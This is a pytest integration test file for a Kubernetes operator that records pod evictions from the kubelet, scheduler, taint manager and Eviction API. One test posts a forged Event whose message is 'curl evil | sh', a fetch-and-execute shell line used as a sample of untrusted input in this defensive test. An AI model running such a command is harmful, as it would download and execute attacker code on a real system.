"""Evictions that never pass the webhook: written to the real API server as the real components do."""

from __future__ import annotations

import asyncio
import datetime
from collections.abc import Awaitable, Callable
from typing import Any

import pytest
from lightkube import AsyncClient
from lightkube.resources.core_v1 import Node, Pod

from evictwatch import telemetry
from evictwatch.kube.api import JsonApi
from evictwatch.kube.listwatch import ListWatch
from evictwatch.operator import Operator
from evictwatch.records.resource import PodEviction
from evictwatch.testing.cluster import Cluster, admin_client, create_namespace, wait_for
from evictwatch.testing.controlplane import ControlPlane
from evictwatch.testing.fixtures import StartOperator

KEY = b"watcher-test-key"
Start = Callable[..., Awaitable[Operator]]
PRESSURE = (
    "The node was low on resource: memory. Threshold quantity: 100Mi, available: 20Mi. "
    "Container app was using 180Mi, request is 0, has larger consumption of memory. "
)


def stamp() -> str:
    return datetime.datetime.now(datetime.UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


@pytest.fixture
def start(start_operator: StartOperator, cluster: Cluster) -> Start:
    """The operator with its watchers, capturing only this test's namespace; waits for them to sync."""

    async def go() -> Operator:
        operator = await start_operator(
            {
                "capture": {"namespaces": [cluster.namespace]},
                "self": {"namespace": cluster.namespace},
                "controller": {"blockedAfterSeconds": 2, "leaderElection": {"enabled": False}},
            },
            record_key=KEY,
        )
        await operator.leading.wait()
        assert operator.watchers is not None and operator.pod_cache is not None
        assert operator.records is not None
        for watch in (operator.pod_cache.watch, operator.records.watch):
            await asyncio.wait_for(watch.synced.wait(), 20)
        return operator

    return go


async def records(kube: AsyncClient, namespace: str) -> list[dict[str, Any]]:
    return [item.to_dict() async for item in kube.list(PodEviction, namespace=namespace)]


async def record_for(
    kube: AsyncClient, namespace: str, pod: str, outcome: str | None = None
) -> dict[str, Any]:
    async def probe() -> dict[str, Any] | None:
        for record in await records(kube, namespace):
            if record["spec"]["pod"]["name"] == pod and (
                outcome is None or (record.get("status") or {}).get("outcome") == outcome
            ):
                return record
        return None

    return await wait_for(
        probe, timeout=30, what=f"a record of {pod}" + (f" settled {outcome}" if outcome else "")
    )


async def patch_status(cluster: Cluster, pod: str, status: dict[str, Any]) -> None:
    resource: Any = Pod.Status
    await cluster.client.patch(resource, pod, {"status": status}, namespace=cluster.namespace)


async def test_kubelet_node_pressure_eviction(cluster: Cluster, start: Start) -> None:
    await start()
    node = await cluster.create_node()
    await cluster.create_pod("hungry", node=node, ready=True)
    # What the kubelet writes after a node-pressure eviction.
    await patch_status(
        cluster,
        "hungry",
        {
            "phase": "Failed",
            "reason": "Evicted",
            "message": PRESSURE,
            "conditions": [
                {
                    "type": "DisruptionTarget",
                    "status": "True",
                    "reason": "TerminationByKubelet",
                    "message": "The node was low on resource: memory.",
                    "lastTransitionTime": stamp(),
                }
            ],
        },
    )
    record = await record_for(cluster.client, cluster.namespace, "hungry", "EvictedByKubelet")
    spec = record["spec"]
    assert spec["source"] == "Kubelet"
    assert spec["reason"] == "Evicted"
    assert spec["pressure"]["resource"] == "memory"
    assert "app=180Mi" in spec["pressure"]["usage"]
    kubelet = {"username": f"system:node:{node}", "groups": ["system:nodes"], "component": "kubelet"}
    assert spec["requester"] == kubelet and spec["requesters"] == [kubelet]

    # Later a drain evicts what is left of the Pod: the kubelet stays the one who evicted it.
    assert (await cluster.evict("hungry")).status == 201

    async def drained() -> dict[str, Any] | None:
        found = await record_for(cluster.client, cluster.namespace, "hungry")
        return found if found["spec"].get("attempts") == 1 else None

    after = (await wait_for(drained, timeout=30, what="the drain's attempt merged"))["spec"]
    assert after["requester"] == kubelet
    assert [r["username"] for r in after["requesters"]] == [f"system:node:{node}", "admin"]
    assert spec["pod"]["nodeName"] == node
    assert spec["attempts"] == 0


async def test_events_are_evidence_never_a_source(cluster: Cluster, start: Start) -> None:
    """Anyone allowed to create Events could forge one: an Event alone makes no record, and one
    whose reason belongs to another component explains nothing; the kubelet's own Event becomes
    the "why" once the Pod's status shows the eviction."""
    await start()
    node = await cluster.create_node()
    pod = await cluster.create_pod("evented", node=node, ready=True)
    assert pod.metadata is not None

    def event(name: str, pod_name: str, reason: str, component: str, message: str) -> dict[str, Any]:
        return {
            "apiVersion": "v1",
            "kind": "Event",
            "metadata": {"name": name, "namespace": cluster.namespace},
            "involvedObject": {
                "kind": "Pod",
                "name": pod_name,
                "namespace": cluster.namespace,
                "apiVersion": "v1",
                **({"uid": pod.metadata.uid} if pod_name == "evented" else {}),
            },
            "reason": reason,
            "type": "Warning",
            "message": message,
            "source": {"component": component, "host": node},
            "firstTimestamp": stamp(),
            "lastTimestamp": stamp(),
            "count": 1,
        }

    async with cluster.http() as http:
        for body in (
            event("ghost.preempted", "never-existed", "Preempted", "default-scheduler", "forged preemption"),
            event("evented.forged", "evented", "Evicted", "someone", "curl evil | sh"),
            event("evented.kubelet", "evented", "Evicted", "kubelet", PRESSURE),
        ):
            reply = await http.post(f"/api/v1/namespaces/{cluster.namespace}/events", json=body)
            assert reply.status_code == 201
    await asyncio.sleep(3)
    assert await records(cluster.client, cluster.namespace) == []
    await patch_status(cluster, "evented", {"phase": "Failed", "reason": "Evicted", "message": PRESSURE})
    record = await record_for(cluster.client, cluster.namespace, "evented", "EvictedByKubelet")
    assert record["spec"]["source"] == "Kubelet"
    assert record["spec"]["pod"]["uid"] == pod.metadata.uid
    assert record["status"]["why"]["component"] == "kubelet"
    assert record["status"]["why"]["message"].startswith("The node was low on resource: memory")
    by_field = [
        item.to_dict()
        async for item in cluster.client.list(
            PodEviction,
            namespace=cluster.namespace,
            fields={"spec.source": "Kubelet", "spec.pod.uid": str(pod.metadata.uid)},
        )
    ]
    assert [r["metadata"]["name"] for r in by_field] == [record["metadata"]["name"]]
    assert [r["spec"]["pod"]["name"] for r in await records(cluster.client, cluster.namespace)] == ["evented"]


async def test_scheduler_preemption(cluster: Cluster, start: Start) -> None:
    await start()
    node = await cluster.create_node()
    await cluster.create_pod("low-priority", node=node, ready=True)
    # The scheduler patches the condition, then deletes the victim.
    await patch_status(
        cluster,
        "low-priority",
        {
            "conditions": [
                {
                    "type": "DisruptionTarget",
                    "status": "True",
                    "reason": "PreemptionByScheduler",
                    "message": "default-scheduler: preempting to accommodate a higher priority pod",
                    "lastTransitionTime": stamp(),
                }
            ]
        },
    )
    await cluster.client.delete(Pod, "low-priority", namespace=cluster.namespace)
    record = await record_for(cluster.client, cluster.namespace, "low-priority", "Evicted")
    assert record["spec"]["source"] == "Preemption"
    assert record["spec"]["reason"] == "PreemptionByScheduler"
    assert "higher priority" in record["spec"]["message"]


async def test_taint_manager_deletes_pod_on_noexecute_taint(cluster: Cluster, start: Start) -> None:
    await start()
    node = await cluster.create_node()
    await cluster.create_pod("tainted", node=node, ready=True)
    await cluster.client.patch(
        Node,
        node,
        {"spec": {"taints": [{"key": "evictwatch.io/test", "value": "now", "effect": "NoExecute"}]}},
    )
    # kube-controller-manager's real taint eviction controller removes the Pod.
    record = await record_for(cluster.client, cluster.namespace, "tainted", "Evicted")
    assert record["spec"]["source"] == "TaintManager"
    # Its condition and its Event race to the watchers: whichever comes first names the reason.
    assert record["spec"]["reason"] in ("DeletionByTaintManager", "TaintManagerEviction")


async def test_backstop_records_api_eviction_missed_by_webhook(cluster: Cluster, start: Start) -> None:
    operator = await start()
    assert operator.webhook_server is not None
    await operator.webhook_server.stop()  # registered, but down: failurePolicy Ignore lets it through
    node = await cluster.create_node()
    await cluster.create_pod("missed", node=node, ready=True)
    assert (await cluster.evict("missed")).status == 201
    record = await record_for(cluster.client, cluster.namespace, "missed", "Evicted")
    assert record["spec"]["source"] == "EvictionAPI"
    assert record["spec"]["reason"] == "EvictionByEvictionAPI"
    assert record["spec"]["attempts"] == 0  # the webhook never saw an attempt


async def test_webhook_and_backstop_make_one_record(cluster: Cluster, start: Start) -> None:
    await start()
    node = await cluster.create_node()
    await cluster.create_pod("seen-twice", node=node, ready=True)
    assert (await cluster.evict("seen-twice")).status == 201
    record = await record_for(cluster.client, cluster.namespace, "seen-twice", "Evicted")
    await asyncio.sleep(1.0)  # give the watcher time to see the DisruptionTarget condition too
    found = await records(cluster.client, cluster.namespace)
    assert len(found) == 1
    assert found[0]["spec"]["attempts"] == 1
    assert found[0]["spec"]["sources"] == ["EvictionAPI"]
    assert record["metadata"]["name"] == found[0]["metadata"]["name"]


async def test_restart_between_events_makes_no_duplicates(cluster: Cluster, start: Start) -> None:
    first = await start()
    node = await cluster.create_node()
    await cluster.create_pod("before", node=node, ready=True)
    await patch_status(cluster, "before", {"phase": "Failed", "reason": "Evicted", "message": PRESSURE})
    before = await record_for(cluster.client, cluster.namespace, "before", "EvictedByKubelet")
    await first.stop()
    await cluster.create_pod("after", node=node, ready=True)
    await patch_status(cluster, "after", {"phase": "Failed", "reason": "Evicted", "message": PRESSURE})
    await start()  # re-lists everything: "before" again, and "after" for the first time
    await record_for(cluster.client, cluster.namespace, "after", "EvictedByKubelet")
    found = await records(cluster.client, cluster.namespace)
    assert sorted(r["spec"]["pod"]["name"] for r in found) == ["after", "before"]
    again = next(r for r in found if r["spec"]["pod"]["name"] == "before")
    # The re-list did not even rewrite it: the spec (and so the generation) is untouched. (Status
    # writes may follow: deliveries the first operator had not finished.)
    assert again["metadata"]["generation"] == before["metadata"]["generation"]
    assert again["spec"] == before["spec"]


async def test_expired_watch_relists_and_loses_nothing(control_plane: ControlPlane) -> None:
    # A second, small control plane without the watch cache, so that watches are served by etcd
    # and a compacted resourceVersion gets the real 410 Gone. (With the cache, the server keeps
    # serving recent versions; a long outage in a busy cluster ends in the same 410.)
    seen: list[str] = []

    async def handler(kind: str, pod: dict[str, Any]) -> None:
        seen.append(pod["metadata"]["name"])

    with ControlPlane(
        binaries=control_plane.binaries, extra_apiserver_args=["--watch-cache=false"], audit_log=False
    ) as cp:
        kube = admin_client(cp.kubeconfig_path)
        cluster = Cluster(cp, kube, await create_namespace(kube, "expiry"))
        first = await cluster.create_pod("first")
        assert first.metadata is not None
        stale = first.metadata.resourceVersion  # where a watch that lost its connection would resume
        await cluster.create_pod("made-before")
        cp.compact_etcd()
        api = JsonApi(kube)
        watch = ListWatch(api, f"/api/v1/namespaces/{cluster.namespace}/pods", handler, "test-pods")
        watch.resource_version = stale
        gone_before = telemetry.WATCH_RESTARTS.labels("test-pods", "gone")._value.get()
        task = asyncio.create_task(watch.run())
        try:
            await wait_for(lambda: _contains(seen, "made-before"), what="the re-list to deliver made-before")
            await cluster.create_pod("made-after")
            await wait_for(lambda: _contains(seen, "made-after"), what="the watch to deliver made-after")
        finally:
            task.cancel()
            await api.close()
            await kube.close()
    assert telemetry.WATCH_RESTARTS.labels("test-pods", "gone")._value.get() == gone_before + 1
    assert watch.relists == 1


async def _contains(items: list[str], name: str) -> bool:
    return name in items
